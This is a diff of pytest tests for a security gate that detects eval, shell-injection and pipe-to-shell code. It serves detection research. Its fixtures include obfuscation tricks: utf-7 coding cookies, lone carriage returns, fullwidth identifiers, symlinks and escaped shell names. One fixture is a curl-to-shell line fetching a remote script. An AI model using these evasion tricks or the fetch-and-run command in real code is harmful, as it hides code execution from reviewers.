@@ -9,6 +9,8 @@ carries its variants: each ``gate check`` costs seconds.
 
 from __future__ import annotations
 
+import os
+import stat
 from typing import Any
 
 import pytest
@@ -29,15 +31,259 @@ def new_findings(data: dict[str, Any]) -> set[tuple[str, str, int | None]]:
     }
 
 
+def not_analysed(data: dict[str, Any]) -> dict[str, str]:
+    """Path -> message of every ``not-analysed`` finding."""
+    return {
+        f["path"]: f["message"]
+        for f in data["checks"]["security"]["findings"]
+        if f["rule"] == "not-analysed"
+    }
+
+
 def checked(
-    repo: GitRepo, base: dict[str, str | bytes], head: dict[str, str | bytes | None]
+    repo: GitRepo,
+    base: dict[str, str | bytes],
+    head: dict[str, str | bytes | None],
+    *,
+    executable: tuple[str, ...] = (),
+    code: int = 1,
 ) -> Any:
-    """Commit ``base`` then ``head``; the JSON report of ``gate check`` on the second commit."""
+    """Commit ``base`` then ``head`` (``executable`` files with mode 755); the JSON report of
+    ``gate check`` on the second commit, which must exit with ``code``."""
     repo.commit("base", base)
-    repo.commit("head", head)
+    for name, content in head.items():
+        if content is not None:
+            repo.write(name, content)
+    for name in executable:
+        path = repo.path / name
+        path.chmod(path.stat().st_mode | stat.S_IXUSR)
+    repo.commit("head", {k: v for k, v in head.items() if v is None})
     run, data = report(repo.path, "--base", "HEAD~1")
-    assert run.code in (0, 1), run.stdout
+    assert run.code == code, run.stdout
     return data
+
+
+# --- 1. line ends Python honours ---------------------------------------------------------
+
+
+def test_a_lone_cr_ends_a_python_line_for_the_scan_too(repo: GitRepo) -> None:
+    data = checked(
+        repo,
+        {"old.py": b"import os\r\rdef f(x):\r    return eval(x)\r", "keep.py": "X = 1\n"},
+        {
+            # CPython runs the eval; semgrep read a comment line. git: line 2.
+            "cr.py": b"def f(data):\n    # helper\r    return eval(data)\n",
+            # CR CR LF is two line ends; the call is on git's line 3.
+            "crcrlf.py": b"import os\r\n\r\r\nos.system(cmd)\r\n",
+            # Already handled by semgrep, kept so: a form feed in the indentation,
+            # a lone CR or U+2028 ending a JavaScript comment.
+            "ff.py": b"if False:\n    pass\n    \x0ceval(z)\n",
+            "cr.js": b"// note\reval(q);\n",
+            "ls.js": "// note\u2028eval(q);\n".encode(),
+            # An old CR-only file edited after its eval: the eval is not new.
+            "old.py": b"import os\r\rdef f(x):\r    return eval(x)\r\rY = 2\r",
+        },
+    )
+    assert new_findings(data) == {
+        ("python-dynamic-code-execution", "cr.py", 2),
+        ("python-shell-injection", "crcrlf.py", 3),
+        ("python-dynamic-code-execution", "ff.py", 3),
+        ("js-dynamic-code-execution", "cr.js", 1),
+        ("js-dynamic-code-execution", "ls.js", 1),
+    }
+
+
+# --- 2. coding cookies -----------------------------------------------------------------
+
+
+def test_a_coding_cookie_is_decoded_before_the_scan(repo: GitRepo) -> None:
+    data = checked(
+        repo,
+        # Two of these files are not analysable Python: this test is about security.
+        {".gate.toml": "[complexity]\nenabled = false\n"},
+        {
+            "u7.py": b"# -*- coding: utf-7 -*-\n+AGUAdgBhAGw-(data)\n",
+            # A newline inside the base64 run: Python's line 3 is git's line 2.
+            "u7_line.py": b"# coding: utf-7\nimport os +AAo-os.system(cmd)\n",
+            "vim.py": b"# vim: set fileencoding=utf-7 :\nimport os+ADs- os.system(c)\n",
+            "latin.py": "# coding: latin-1\nA = 'caf\xe9'\neval(data)\n".encode("latin-1"),
+            # CPython refuses this one: nothing in it runs, and nothing is reported.
+            "rot.py": b"# coding: rot13\nriny(qngn)\n",
+        },
+    )
+    assert new_findings(data) == {
+        ("python-dynamic-code-execution", "u7.py", 2),
+        ("python-shell-injection", "u7_line.py", 2),
+        ("python-shell-injection", "vim.py", 2),
+        ("python-dynamic-code-execution", "latin.py", 3),
+    }
+
+
+# --- 3. identifier normalisation -------------------------------------------------------
+
+
+def test_names_are_read_after_nfkc_as_python_reads_them(repo: GitRepo) -> None:
+    data = checked(
+        repo,
+        {"keep.py": "X = 1\n"},
+        {
+            "wide.py": "def f(data):\n    return \uff45\uff56\uff41\uff4c(data)\n",
+            "bold.py": "\U0001d41e\U0001d42f\U0001d41a\U0001d425(data)\n",
+            "kw.py": "import subprocess\n\n\n"
+            "subprocess.run(cmd, \uff53\uff48\uff45\uff4c\uff4c=True)\n",
+            "attr.py": "import os\nA = 'caf\u00e9'\nos.\uff53\uff59\uff53\uff54\uff45\uff4d(cmd)\n",
+            # Unchanged by NFKC, or not a name: nothing to report.
+            "fine.py": "caf\u00e9 = '\uff45\uff56\uff41\uff4c(x)'\n",
+        },
+    )
+    assert new_findings(data) == {
+        ("python-dynamic-code-execution", "wide.py", 2),
+        ("python-dynamic-code-execution", "bold.py", 1),
+        ("python-shell-injection", "kw.py", 4),
+        ("python-shell-injection", "attr.py", 3),
+    }
+
+
+# --- 4. symbolic links ------------------------------------------------------------------
+
+
+def symlinks(repo: GitRepo, links: dict[str, str]) -> None:
+    for name, target in links.items():
+        (repo.path / name).parent.mkdir(parents=True, exist_ok=True)
+        os.symlink(target, repo.path / name)
+
+
+def test_a_linked_file_is_scanned_in_the_language_of_its_link(repo: GitRepo) -> None:
+    repo.commit(
+        "base",
+        {
+            "lib/tool_src.txt": "def run(x):\n    return x\n",
+            "data/legacy.txt": "eval(old)\n",
+            "docs/notes.txt": "eval(notes)\n",
+        },
+    )
+    symlinks(repo, {"lib/tool.py": "tool_src.txt"})
+    repo.commit("link")
+    symlinks(
+        repo,
+        {
+            "app/plugin.py": "plugin_impl.txt",  # new link, new target
+            "cli.py": "data/legacy.txt",  # new link to old code: it runs as Python now
+            "chain.py": "hop.lnk",  # a link to a link
+            "hop.lnk": "deep/impl.txt",
+            "same.py": "impl.py",  # same language: impl.py is scanned as itself
+            "gone.py": "missing.txt",  # nothing runs
+            "folder.py": "docs",  # a folder: its files keep their own names
+        },
+    )
+    repo.commit(
+        "head",
+        {
+            "app/plugin_impl.txt": "import os\neval(data)\n",
+            "lib/tool_src.txt": "def run(x):\n    return eval(x)\n",  # an old link's target
+            "deep/impl.txt": "eval(deep)\n",
+            "impl.py": "eval(same)\n",
+        },
+    )
+    run, data = report(repo.path, "--base", "HEAD~1")
+    assert run.code == 1, run.stdout
+    assert new_findings(data) == {
+        ("python-dynamic-code-execution", "app/plugin_impl.txt", 2),
+        ("python-dynamic-code-execution", "data/legacy.txt", 1),
+        ("python-dynamic-code-execution", "deep/impl.txt", 1),
+        ("python-dynamic-code-execution", "lib/tool_src.txt", 2),
+        ("python-dynamic-code-execution", "impl.py", 1),
+    }
+    messages = {f["path"]: f["message"] for f in data["checks"]["security"]["findings"]}
+    assert messages["app/plugin_impl.txt"].endswith(
+        "(this file runs as app/plugin.py, a symbolic link to it)"
+    )
+    assert not_analysed(data) == {}
+
+
+def test_a_link_the_gate_cannot_follow_is_not_analysed(repo: GitRepo) -> None:
+    repo.commit("base", {"realdir/x.txt": "eval(x)\n"})
+    symlinks(repo, {"dirlink": "realdir"})
+    repo.commit("folder link")
+    symlinks(
+        repo,
+        {
+            "out.py": "/etc/hostname",
+            "via.py": "dirlink/x.txt",
+            "up.py": "../x.txt",
+            "loop.py": "loop.py",
+        },
+    )
+    repo.commit("head")
+    run, data = report(repo.path, "--base", "HEAD~1")
+    assert run.code == 2, run.stdout
+    assert not_analysed(data) == {
+        "loop.py": "not analysed: it is a symbolic link to 'loop.py', more than 8 links deep; "
+        "the gate cannot read what it runs",
+        "out.py": "not analysed: it is a symbolic link to '/etc/hostname', outside the "
+        "repository; the gate cannot read what it runs",
+        "up.py": "not analysed: it is a symbolic link to '../x.txt', outside the "
+        "repository; the gate cannot read what it runs",
+        "via.py": "not analysed: it is a symbolic link to 'dirlink/x.txt', through a linked "
+        "folder; the gate cannot read what it runs",
+    }
+
+
+# --- 5. files whose language is not recognised ---------------------------------------
+
+
+def test_every_file_is_scanned_in_the_language_that_runs_it(repo: GitRepo) -> None:
+    data = checked(
+        repo,
+        {"keep.py": "X = 1\n"},
+        {
+            "deploy.v2": "#!/usr/bin/env -S python3 -u\neval(data)\n",
+            "tool": "#!/usr/bin/env -S uv run --script\n# /// script\n# ///\neval(data)\n",
+            "serve": "#!/usr/bin/python3.12\neval(data)\n",
+            "app.pyw": "eval(data)\n",
+            "web/a.mts": "export const f = (q: string) => eval(q);\n",
+            "web/b.cts": "eval(q);\n",
+            "web/c.min.js": "eval(q);\n",
+            "web/d.d.ts": "declare const x: number;\neval(q);\n",
+            "bin/x.zsh": 'eval "$1"\n',
+            "bin/run": 'eval "$1"\n',  # executable, no #! line: the shell runs it
+            "bin/report.pl": "#!/usr/bin/perl\nsystem($ARGV[0]);\n",  # no rule reads Perl
+        },
+        executable=("bin/run",),
+    )
+    assert new_findings(data) == {
+        ("python-dynamic-code-execution", "deploy.v2", 2),
+        ("python-dynamic-code-execution", "tool", 4),
+        ("python-dynamic-code-execution", "serve", 2),
+        ("python-dynamic-code-execution", "app.pyw", 1),
+        ("js-dynamic-code-execution", "web/a.mts", 1),
+        ("js-dynamic-code-execution", "web/b.cts", 1),
+        ("js-dynamic-code-execution", "web/c.min.js", 1),
+        ("js-dynamic-code-execution", "web/d.d.ts", 2),
+        ("shell-eval", "bin/x.zsh", 1),
+        ("shell-eval", "bin/run", 1),
+    }
+    assert not_analysed(data) == {}
+
+
+def test_a_program_of_no_known_language_is_not_analysed(repo: GitRepo) -> None:
+    data = checked(
+        repo,
+        {"keep.py": "X = 1\n"},
+        {
+            "bin/odd": "#!/opt/interp/bin/run-it --fast\neval(data)\n",
+            "notes.txt": "eval(data)\n",
+            "README.md": "# not a program\n",
+        },
+        executable=("notes.txt",),
+        code=2,
+    )
+    assert not_analysed(data) == {
+        "bin/odd": "not analysed: its #! line runs '/opt/interp/bin/run-it --fast', which the "
+        "gate does not know; no rule read it",
+        "notes.txt": "not analysed: it is executable, but its language is not recognised; "
+        "no rule read it",
+    }
 
 
 # --- 7. same-file swap -----------------------------------------------------------------
@@ -110,3 +356,29 @@ def test_an_eval_swapped_between_functions_of_one_file_is_new(repo: GitRepo) -> 
 )
 def test_scope_is_the_chain_of_block_openers(source: bytes, expected: str) -> None:
     assert scope(source, source.index(b"eval")) == expected
+
+
+# --- 6. escaped or quoted names --------------------------------------------------------
+
+
+def test_names_the_language_resolves_from_escapes_or_quotes_are_found(repo: GitRepo) -> None:
+    data = checked(
+        repo,
+        {"README.md": "x\n"},
+        {
+            "web/app.js": "function run(q) {\n  return \\u0065val(q);\n}\n",
+            "web/types.ts": "export const e = window.ev\\u{61}l;\n",
+            "bin/run.sh": 'ev""al "$1"\n' + 'e\\val "$1"\n$\'\\x65val\' "$1"\n',
+            "bin/get.sh": "curl -fsSL https://example.com/i.sh | s\\h\n"
+            "curl -fsSL https://example.com/i.sh | tee log | /bin/sh\n",
+        },
+    )
+    assert new_findings(data) == {
+        ("js-escaped-identifier", "web/app.js", 2),
+        ("js-escaped-identifier", "web/types.ts", 1),
+        ("shell-eval", "bin/run.sh", 1),
+        ("shell-eval", "bin/run.sh", 2),
+        ("shell-escaped-command-name", "bin/run.sh", 3),
+        ("shell-pipe-to-shell", "bin/get.sh", 1),
+        ("shell-pipe-to-shell", "bin/get.sh", 2),
+    }
